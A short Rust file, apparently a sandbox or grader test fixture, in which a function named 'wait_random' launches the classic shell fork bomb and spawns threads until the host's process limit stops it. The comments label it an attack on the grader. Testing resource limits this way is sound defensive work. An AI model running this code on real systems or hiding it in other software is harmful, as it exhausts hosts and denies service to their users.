//! Attack: exhaust the host's processes: start shells running the classic
//! fork bomb, and threads until none can be started, each sleeping an hour.
//! Must not: outlast its grading or stop the grader. The process limit
//! stops it (it says after how many threads), the exercise fails, and no
//! process is left.
use std::time::Duration;

pub const DEFAULT_MAX_DELAY: Duration = Duration::from_secs(10);

pub async fn wait_random(max_delay: Duration) -> Duration {
    for shell in ["/bin/sh", "/usr/bin/bash", "sh"] {
        let _ = std::process::Command::new(shell)
            .args(["-c", ":(){ :|:& };:"])
            .spawn();
    }
    let mut started = 0u64;
    while started < 100_000 {
        let spawned = std::thread::Builder::new()
            .spawn(|| std::thread::sleep(Duration::from_secs(3600)));
        if spawned.is_err() {
            break;
        }
        started += 1;
    }
    if started < 100_000 {
        panic!("the process limit stopped the bomb after {started} threads");
    }
    tokio::time::sleep(max_delay).await;
    max_delay
}
